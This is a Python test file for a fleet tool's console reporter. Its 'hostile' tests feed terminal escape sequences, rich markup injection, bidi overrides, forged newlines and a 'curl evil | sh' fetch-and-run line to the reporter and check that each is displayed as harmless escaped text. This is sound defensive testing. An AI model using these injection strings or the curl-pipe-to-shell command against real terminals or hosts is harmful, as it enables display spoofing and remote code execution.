"""The reporter renders to a fixed-width console; compare what a person would read."""

import io
import re
import time

import pytest
from rich.console import Console, Group

from fleet import report
from fleet.errors import HostError
from fleet.hosts.model import Host
from fleet.images.labels import ImageVersion
from fleet.ops.deploy import Switch
from fleet.playbook.run import PlaybookRun, Tally
from fleet.playbook.schema import Play, Task
from fleet.report import untrusted
from fleet.report.build import versions_table
from fleet.report.play import PlayReporter
from fleet.report.play import recap as play_recap
from fleet.results import FleetResult, HostResult, Outcome
from fleet.runner import HostContext, Runner
from tests.fakes import FakeTransport


def render(renderable: object, width: int = 100) -> str:
    buffer = io.StringIO()
    console = report.console(buffer, width=width)
    console.print(renderable)
    return buffer.getvalue()


def test_recap_lists_every_host_and_puts_failures_last() -> None:
    run = FleetResult.of(
        "exec",
        [
            HostResult("gpu01", Outcome.CHANGED, seconds=0.4),
            HostResult(
                "gpu02", Outcome.FAILED, "command exited 3: false", fix="look at it", seconds=1.0
            ),
            HostResult("gpu03", Outcome.UNREACHABLE, "cannot connect to 10.0.0.3:22: refused"),
        ],
        1.5,
    )
    text = render(report.recap(run))
    lines = text.splitlines()
    assert lines[0].startswith("RECAP exec")
    assert "gpu01  changed" in text.replace("   ", "  ")
    assert "3 hosts in 1.5s: ok=0 changed=1 failed=1 unreachable=1 skipped=0" in text
    # The reasons come after the summary, where they are seen.
    summary_at = text.index("3 hosts in")
    assert text.index("gpu02 failed: command exited 3: false") > summary_at
    assert text.index("gpu03 unreachable: cannot connect") > summary_at
    assert "fix: look at it" in text


def test_plain_progress_lines_when_not_a_terminal() -> None:
    buffer = io.StringIO()
    reporter = report.LiveReporter(["a", "b"], report.console(buffer, width=80), live=False)
    with reporter:
        reporter.started("a", "ping")
        reporter.finished(HostResult("a", Outcome.OK, seconds=0.25))
        reporter.finished(HostResult("b", Outcome.UNREACHABLE, "timed out\nmore", seconds=3))
    assert buffer.getvalue().splitlines() == ["a: ok (0.2s)", "b: unreachable (3.0s) timed out"]


def test_piped_output_has_a_line_per_host_and_phase_not_per_byte() -> None:
    buffer = io.StringIO()
    reporter = report.LiveReporter(["a"], report.console(buffer, width=80), live=False)
    with reporter:
        reporter.started("a", "push")
        reporter.progress("a", "push", "send", 0, 3 << 30)
        for done in range(1, 100):
            reporter.progress("a", "push", "send", done << 25, 3 << 30)
        reporter.progress("a", "push", "load")
        reporter.progress("a", "push", "verify")
        reporter.finished(HostResult("a", Outcome.CHANGED, seconds=61))
    assert buffer.getvalue().splitlines() == [
        "a: push send (3.0GiB)",
        "a: push load",
        "a: push verify",
        "a: changed (61.0s)",
    ]


def test_live_view_shows_bytes_rate_and_eta_while_a_host_sends() -> None:
    terminal = io.StringIO()
    out = Console(file=terminal, width=200, force_terminal=True, color_system=None)
    reporter = report.LiveReporter(["gpu01", "gpu02"], out)
    with reporter:
        reporter.started("gpu01", "push")
        for done in (0, 1 << 29, 1 << 30):  # rich needs two samples for a rate
            reporter.progress("gpu01", "push", "send", done, 2 << 30)
            time.sleep(0.1)
        reporter.started("gpu02", "push")
        reporter.progress("gpu02", "push", "load")
        assert reporter._progress is not None
        shown = render(reporter._progress.make_tasks_table(reporter._progress.tasks))
    first, second = shown.splitlines()[:2]
    assert first.startswith("gpu01 push send") and "1.0/2.0 GiB" in first, first
    assert "/s" in first and "0:00:0" in first  # a rate and an ETA
    assert "GiB" not in second and "load" in second, second  # no bar without a byte count


def test_a_phase_that_ended_does_not_hide_the_next_one_nor_stop_the_clock() -> None:
    """A push in a deploy: the inspection ended (a result), then bytes move. The row shows
    the send with its bytes, no outcome, and a clock that kept going; the outcome comes
    with the host's end, and then the clock stands still."""
    terminal = io.StringIO()
    out = Console(file=terminal, width=200, force_terminal=True, color_system=None)
    reporter = report.LiveReporter(["gpu01"], out)
    assert reporter._progress is not None

    def row() -> str:
        assert reporter._progress is not None
        return render(reporter._progress.make_tasks_table(reporter._progress.tasks), 200)

    with reporter:
        reporter.started("gpu01", "push: inspect")
        reporter.finished(HostResult("gpu01", Outcome.OK, seconds=0.1))
        assert " ok " in row()
        time.sleep(1.1)
        reporter.started("gpu01", "push")
        for done in (0, 1 << 29, 1 << 30):
            reporter.progress("gpu01", "push", "send", done, 2 << 30)
            time.sleep(0.1)
        sending = row()
        assert "push send" in sending and "1.0/2.0 GiB" in sending and "/s" in sending
        assert " ok " not in sending, sending
        assert "0:00:01" in sending, sending  # since the host began, not since the send
        reporter.finished(HostResult("gpu01", Outcome.CHANGED, seconds=2))
        ended = row()
        time.sleep(1.1)
        assert "changed" in ended and "GiB" not in ended
        assert row() == ended  # the clock stopped with the outcome


def test_the_runner_reports_a_phase_end_as_progress_and_the_host_end_once() -> None:
    heard: list[tuple[str, ...]] = []

    class Heard:
        def started(self, host: str, step: str) -> None:
            heard.append(("started", host, step))

        def progress(
            self, host: str, step: str, note: str = "", done: int = 0, total: int = 0
        ) -> None:
            heard.append(("progress", host, step, note))

        def finished(self, result: HostResult) -> None:
            heard.append(("finished", result.host, str(result.outcome)))

    runner = Runner(FakeTransport, events=Heard())
    hosts = [Host("a"), Host("b")]

    def inspect(ctx: HostContext) -> HostResult:
        if ctx.name == "b":
            raise HostError("b", "no engine")
        return ctx.result(Outcome.OK)

    with runner.phases():
        inspected = runner.run("push: inspect", hosts, inspect)
        runner.settle(inspected.failed)  # inside phases: the enclosing operation's to tell
    assert ("progress", "a", "push: inspect", "done") in heard
    assert ("progress", "b", "push: inspect", "failed") in heard
    assert not [e for e in heard if e[0] == "finished"]
    runner.settle(inspected.failed)
    runner.run("push", hosts[:1], lambda ctx: ctx.result(Outcome.CHANGED))
    assert [e for e in heard if e[0] == "finished"] == [
        ("finished", "b", "failed"),
        ("finished", "a", "changed"),
    ]


def test_command_output_groups_by_host() -> None:
    run = FleetResult.of(
        "exec",
        [
            HostResult("a", Outcome.CHANGED, details={"exit_code": 0}, stdout="hello\n"),
            HostResult("b", Outcome.FAILED, details={"exit_code": 2}, stderr="boom\n"),
        ],
    )
    assert render(report.command_output(run)).splitlines() == [
        "--- a changed rc=0",
        "hello",
        "--- b failed rc=2",
        "boom",
    ]


def test_human_size() -> None:
    assert report.human_size(512) == "512B"
    assert report.human_size(1536) == "1.5KiB"
    assert report.human_size(3 * 1024**3) == "3.0GiB"


# -- hostile text: from hosts, image labels and inventories, never markup or a control --------
# Rich markup (an unbalanced close tag raises MarkupError when parsed), OSC (terminal title,
# hyperlink), CSI (colour, clear screen, cursor up), a C1 CSI, a bidi override, a byte
# that was not UTF-8 (surrogateescape) and one decoded with "replace".
HOSTILE = (
    "[bold]b[/bold] [link=http://evil.example]l[/link] [/] x[/red] "
    "\x1b]0;title\x07 \x1b]8;;http://evil.example\x1b\\t\x1b]8;;\x1b\\ "
    "\x1b[31mred\x1b[2J\x1b[1A \x9b2J \u202eevil \udcff\ufffd"
)
# How each part of HOSTILE reads once shown.
HOSTILE_SHOWN = (
    "[bold]b[/bold]",
    "[link=http://evil.example]l[/link]",
    "[/] x[/red]",
    "\\x1b]0;title\\x07",
    "\\x1b]8;;http://evil.example\\x1b\\t\\x1b]8;;\\x1b\\",
    "\\x1b[31mred\\x1b[2J\\x1b[1A",
    "\\x9b2J",
    "\\u202eevil",
    "\\xff\ufffd",
)
# A newline that would start a line of its own: a forged row.
FORGED = "v1\nlab9   ok"
_SGR = re.compile(r"\x1b\[[0-9;]*m")


def shown(renderable: object, width: int = 400) -> tuple[str, str]:
    """``renderable`` on a colour terminal and piped, each on a console that parses markup
    in plain strings (rich's default): a table cell left a ``str`` would be parsed."""
    terminal, plain = io.StringIO(), io.StringIO()
    Console(file=terminal, width=width, force_terminal=True, color_system="standard").print(
        renderable
    )
    Console(file=plain, width=width, force_terminal=False).print(renderable)
    return terminal.getvalue(), plain.getvalue()


def assert_harmless(renderable: object, *expected: str, width: int = 400) -> str:
    """Render on a terminal and piped: no ESC but rich's own colours, no other control,
    each of ``expected`` shown as text; the piped text."""
    terminal, plain = shown(renderable, width)
    assert "\x1b" not in plain  # piped, rich writes no ESC of its own: any would be a host's
    assert "\x1b" not in _SGR.sub("", terminal)  # on a terminal: only rich's colours
    for output in (terminal, plain):
        for control in ("\x07", "\x9b", "\u202e", "\udcff", "\r"):
            assert control not in output
    plain = "\n".join(line.rstrip() for line in plain.splitlines())
    for text in expected:
        assert text in plain, f"{text!r} not shown in:\n{plain}"
    return plain


@pytest.mark.parametrize(
    ("text", "one_line", "block"),
    [
        ("plain [b] text\ttab", "plain [b] text\ttab", "plain [b] text\ttab"),
        ("a\x1b[2Jb\x07", "a\\x1b[2Jb\\x07", "a\\x1b[2Jb\\x07"),
        ("a\nb\rc", "a\\nb\\rc", "a\n    b\\rc"),
        ("del\x7f c1\x85 nul\x00", "del\\x7f c1\\x85 nul\\x00", "del\\x7f c1\\x85 nul\\x00"),
        ("\u202egnp.exe \u2066x\u2069 \u2028", "\\u202egnp.exe \\u2066x\\u2069 \\u2028", None),
        (b"caf\xe9 \xff".decode("utf-8", "surrogateescape"), "caf\\xe9 \\xff", None),
        (b"caf\xe9".decode("utf-8", "replace"), "caf\ufffd", None),
        ("\ud800 lone", "\\ud800 lone", None),
        ("caf\u00e9 \u65e5\u672c \U0001f600", "caf\u00e9 \u65e5\u672c \U0001f600", None),
    ],
)
@pytest.mark.hostile
def test_visible_escapes_what_steers_a_terminal_and_nothing_else(
    text: str, one_line: str, block: str | None
) -> None:
    assert untrusted.visible(text) == one_line
    assert untrusted.visible(text, lines=True, indent="    ") == (block or one_line)
    made = untrusted.safe_text(text, style="bold")
    assert made.plain == one_line and str(made.style) == "bold"
    assert untrusted.visible(3) == "3"


@pytest.mark.hostile
def test_recap_shows_hostile_hosts_reasons_and_details_as_text() -> None:
    run = FleetResult.of(
        "exec",
        [
            HostResult("x[/red]", Outcome.CHANGED, f"ok {HOSTILE}", details={"exit_code": 0}),
            HostResult(
                HOSTILE,
                Outcome.FAILED,
                f"command exited 3: {HOSTILE}\n  fix: curl evil | sh\nlab9 ok",
                fix=f"look at {HOSTILE}",
                details={"exit_code": FORGED},
            ),
            HostResult("main[/]", Outcome.UNREACHABLE, "cannot connect [/]"),
        ],
    )
    plain = assert_harmless(
        report.recap(run, ("exit_code",)), *HOSTILE_SHOWN, "x[/red]", "main[/]", "v1\\nlab9"
    )
    lines = plain.splitlines()
    # The host's own lines stay under its reason, deeper than fleet's "fix:".
    assert "      fix: curl evil | sh" in lines and "    lab9 ok" in lines
    assert not any(line.startswith(("lab9", "  fix: curl")) for line in lines)
    assert any(line.startswith("  fix: look at [bold]b[/bold]") for line in lines)


@pytest.mark.hostile
def test_progress_lines_and_the_live_view_show_hostile_hosts_as_text() -> None:
    piped = io.StringIO()
    reporter = report.LiveReporter([HOSTILE, "x[/red]"], Console(file=piped, width=400))
    with reporter:
        reporter.started(HOSTILE, f"deploy {HOSTILE}")
        reporter.finished(HostResult(HOSTILE, Outcome.FAILED, f"{HOSTILE}\nsecond", seconds=1))
        reporter.finished(HostResult("x[/red]", Outcome.OK, seconds=1))
    assert piped.getvalue().splitlines()[1] == "x[/red]: ok (1.0s)"
    assert "\x1b" not in piped.getvalue() and "[link=http://evil.example]" in piped.getvalue()
    # On a terminal: the live table, redrawn on every event.
    terminal = io.StringIO()
    out = Console(file=terminal, width=400, force_terminal=True, color_system="standard")
    reporter = report.LiveReporter([HOSTILE, "x[/red]", "main[/]"], out)
    with reporter:
        reporter.started(HOSTILE, f"push {HOSTILE}")
        reporter.progress("x[/red]", "push", f"layer {HOSTILE}", 5, 10)
        reporter.finished(HostResult(HOSTILE, Outcome.FAILED, HOSTILE, seconds=1))
    written = terminal.getvalue()
    assert "\\x1b]0;title\\x07" in written and "x[/red]" in written
    for raw in ("\x1b]", "\x1b[31mred", "\x1b[2J", "\x07", "\x9b"):
        assert raw not in written


@pytest.mark.hostile
def test_exec_output_is_raw_on_a_terminal_and_escaped_otherwise() -> None:
    run = FleetResult.of(
        "exec",
        [
            HostResult(
                HOSTILE,
                Outcome.CHANGED,
                details={"exit_code": 0},
                stdout="\x1b]0;title\x07\x1b[31mred [bold]\nline 2\n",
                stderr="\x1b[2J err\n",
            )
        ],
    )
    plain = assert_harmless(report.command_output(run), *HOSTILE_SHOWN)
    assert plain.splitlines()[1:] == [
        "\\x1b]0;title\\x07\\x1b[31mred [bold]",
        "line 2",
        "\\x1b[2J err",
    ]
    # Like ssh: the operator's own terminal gets the output as it came; the header is fleet's.
    terminal, _ = shown(report.command_output(run, raw=True))
    assert "\x1b]0;title" in terminal and "\x1b[2J err" in terminal and "[bold]" in terminal
    assert "--- [bold]b[/bold]" in terminal and "\x1b]8;;http://evil" not in terminal


@pytest.mark.hostile
def test_facts_table_shows_what_a_host_said_as_text() -> None:
    facts = {
        "hostname": HOSTILE,
        "kernel": "6.1[/]",
        "engine_version": "x[/red]",
        "api_version": "\x1b[2J",
        "image_store": FORGED,
        "runtimes": ["runc", "[link=http://evil.example]nvidia"],
        "gpus": [{"model": "\x1b]0;gpu\x07", "driver": "1", "memory": "1"}],
        "disk_docker": {"path": "/", "total": 10, "free": "lots"},
        "disk_data": {"path": "/data", "total": 10, "free": 2048},
        "framework_containers": [{"Image": "cauchy:[/]"}],
    }
    plain = assert_harmless(
        report.facts_table([(HOSTILE, facts), ("main[/]", None)]),
        *HOSTILE_SHOWN,
        "6.1[/]",
        "x[/red]",
        "\\x1b[2J",
        "v1\\nlab9   ok",
        "runc,[link=http://evil.example]nvidia",
        "1x \\x1b]0;gpu\\x07",
        "2.0KiB",
        "cauchy:[/]",
        "main[/]",
        width=1000,
    )
    assert len(plain.splitlines()) == 3, plain


@pytest.mark.hostile
def test_play_lines_and_recap_show_hosts_reasons_diffs_and_versions_as_text() -> None:
    task = Task("copy", {}, f"write {HOSTILE}", "book.yml", 3)
    play = Play("play [/]", "all", (task,), "book.yml", 1)
    rows = [
        HostResult(
            HOSTILE,
            Outcome.CHANGED,
            f"changed {HOSTILE}",
            details={"diff": f"-old\n+{HOSTILE}\n", "bytes_sent": "[/]"},
        ),
        HostResult("x[/red]", Outcome.FAILED, f"{HOSTILE}\nlab9 ok", fix=f"fix {HOSTILE}"),
    ]
    buffer = io.StringIO()
    reporter = PlayReporter(Console(file=buffer, width=400, force_terminal=True))
    reporter.play_started(play, [HOSTILE])
    reporter.task_started(play, task, [HOSTILE])
    reporter.task_finished(play, task, FleetResult.of("copy", rows))
    written = buffer.getvalue()
    assert "\x1b" not in _SGR.sub("", written)
    plain = _SGR.sub("", written)
    for text in (*HOSTILE_SHOWN, "PLAY [play [/]]", "x[/red]: failed: [bold]", "[[/] bytes sent]"):
        assert text in plain
    assert f"+{untrusted.visible(HOSTILE)}" in plain.splitlines()
    assert "lab9 ok" not in plain  # a one-line entry: the rest of the reason is not shown

    run = PlaybookRun(stopped=f"stopped by {HOSTILE}")
    tally = run.tallies.setdefault(HOSTILE, Tally())
    tally.add(
        HostResult(HOSTILE, Outcome.CHANGED).with_payload(Switch(None, f"9.0.1{HOSTILE}")),
        False,
    )
    run.tallies["x[/red]"] = Tally()
    assert_harmless(play_recap(run), *HOSTILE_SHOWN, "x[/red]", "-> 9.0.1[bold]b[/bold]")


@pytest.mark.hostile
def test_images_table_shows_labels_as_text() -> None:
    version = ImageVersion(
        repository="cauchy",
        tag=f"0.2[/]{HOSTILE}",
        image_id="sha256:" + "1" * 64,
        created="",
        build_date=FORGED,
        commit="abc",
        short_commit="x[/red]",
        branch="main[/]",
        dirty=False,
        commit_count=2,
        version="",
        size=0,
        tagged=False,
        docker_cmd="",
    )
    plain = assert_harmless(
        versions_table("cauchy", [version]),
        *HOSTILE_SHOWN,
        "x[/red]",
        "main[/]",
        "v1\\nlab9   ok",
        "(untagged)",
    )
    assert len(plain.splitlines()) == 2


def test_images_table_shows_a_tag_moved_by_retag() -> None:
    def version(commit: str, *, tagged: bool, moved_from: str = "") -> ImageVersion:
        return ImageVersion(
            repository="cauchy",
            tag="0.2.68",
            image_id="sha256:" + commit[0] * 64,
            created="",
            build_date="2026-12-03T10:00:00Z",
            commit=commit * 40,
            short_commit=commit * 7,
            branch="main",
            dirty=False,
            commit_count=68,
            version="",
            size=0,
            tagged=tagged,
            docker_cmd="",
            moved_from=moved_from,
        )

    shown = render(
        versions_table(
            "cauchy", [version("b", tagged=True, moved_from="a" * 40), version("a", tagged=False)]
        ),
        width=140,
    )
    lines = shown.splitlines()
    assert "0.2.68 (moved from aaaaaaa by --retag)" in lines[1]
    assert "0.2.68 (tag moved to bbbbbbb)" in lines[2]


def test_summaries_group_and_fold_hosts_at_scale() -> None:
    pairs = [(f"gpu{i:03d}", "no_engine") for i in range(500)]
    assert report.grouped_hosts(pairs) == "gpu[000-499] (no_engine)"
    mixed = [("lab1", "behind"), ("lab2", "behind"), ("lab3", "dirty,version")]
    assert report.grouped_hosts(mixed) == "lab[1-2] (behind), lab3 (dirty,version)"
    # Names that fold into nothing, each with its own reason: cut, and the rest counted.
    scattered = [(f"host-{chr(97 + i // 26)}{chr(97 + i % 26)}", f"code{i}") for i in range(500)]
    text = report.grouped_hosts(scattered)
    assert len(text) <= report.SUMMARY_WIDTH + 40, len(text)
    shown = text.count("(code")
    assert text.endswith(f"… and {500 - shown} more"), text[-40:]


def test_a_piped_recap_keeps_each_host_on_one_line() -> None:
    note = "sent 2/2 layers, 404200960 bytes in 12.3s " + "x" * 300
    run = FleetResult.of(
        "push",
        [HostResult(f"gpu{i:02d}", Outcome.CHANGED, note, seconds=1.0) for i in range(3)],
        1.0,
    )
    piped = io.StringIO()
    report.console(piped).print(report.recap(run))  # not a terminal: no width given
    lines = piped.getvalue().splitlines()
    rows = [line for line in lines if line.startswith("gpu")]
    assert len(rows) == 3, lines
    assert all(row.rstrip().endswith("…") for row in rows), rows
    assert all(len(row) <= report.PIPED_WIDTH for row in lines)


def test_more_hosts_than_lines_fold_into_counts_and_the_rows_worth_watching() -> None:
    out = Console(file=io.StringIO(), width=150, height=12, force_terminal=True)
    hosts = [f"gpu{i:03d}" for i in range(200)]
    reporter = report.LiveReporter(hosts, out)
    assert reporter._progress is not None
    with reporter:
        for index, host in enumerate(hosts[:150]):
            reporter.started(host, "push")
            if index < 100:
                reporter.progress(host, "push", "send", 1 << 20, 4 << 20)
            if index < 40:
                outcome = Outcome.UNREACHABLE if index == 7 else Outcome.CHANGED
                reporter.finished(HostResult(host, outcome, "gone" if index == 7 else None))
        lines = render(Group(*reporter._progress.get_renderables()), 150).splitlines()
    assert lines[0] == (
        "200 hosts: 50 waiting · 110 running (send 60, push 50)"
        " · 40 done (changed 39, unreachable 1)"
    ), lines[0]
    assert len(lines) <= 12 - 3, lines
    # The failed host first, then the longest running (started first): gpu040, gpu041...
    assert lines[1].startswith("gpu007") and "unreachable" in lines[1], lines[1]
    assert lines[2].startswith("gpu040 push send"), lines[2]


def test_verbose_play_output_shows_each_hosts_output_and_the_command() -> None:
    task = Task("command", {}, "list", "book.yml", 3)
    play = Play("p", "all", (task,), "book.yml", 1)
    row = HostResult(
        "lab1",
        Outcome.FAILED,
        "non-zero return code 2: ls /nope",
        details={"rc": 2, "cmd": ["ls", "/nope"], "msg": "non-zero return code"},
        stdout="",
        stderr=f"ls: cannot access '/nope'\n{HOSTILE}",
    )
    shown = {}
    for verbosity in (0, 1, 2):
        buffer = io.StringIO()
        PlayReporter(Console(file=buffer, width=200), verbosity).task_finished(
            play, task, FleetResult.of("command", [row])
        )
        shown[verbosity] = buffer.getvalue()
    assert "rc:" not in shown[0] and "stderr" not in shown[0]
    assert "rc: 2" in shown[1] and "stderr: ls: cannot access '/nope'" in shown[1]
    assert "msg: non-zero return code" in shown[1] and "cmd:" not in shown[1]
    assert "cmd: ['ls', '/nope']" in shown[2]
    assert "\x1b" not in shown[2]  # what a host printed is shown escaped


def test_500_hosts_failing_alike_print_a_few_lines_not_500() -> None:
    """Hosts that failed alike are one entry (folded), kinds past eight a count: the text
    under a recap of 500 hosts stays short whatever fails."""
    alike = FleetResult.of(
        "exec",
        [
            HostResult(f"gpu{i:03d}", Outcome.UNREACHABLE, "connection refused", "start sshd")
            for i in range(500)
        ],
    )
    (entry,) = report.problem_lines(alike)
    assert entry.plain == (
        "gpu[000-499] unreachable (500 hosts): connection refused\n  fix: start sshd"
    )
    varied = FleetResult.of(
        "exec",
        [HostResult(f"gpu{i:03d}", Outcome.FAILED, f"exit {i % 50}") for i in range(500)],
    )
    lines = report.problem_lines(varied)
    assert len(lines) == report.MAX_GROUPS + 1
    assert lines[-1].plain.startswith("… and 420 more hosts in 42 other kinds of failure")
    assert sum(len(line.plain) for line in lines) <= 600 + 80 * report.MAX_GROUPS
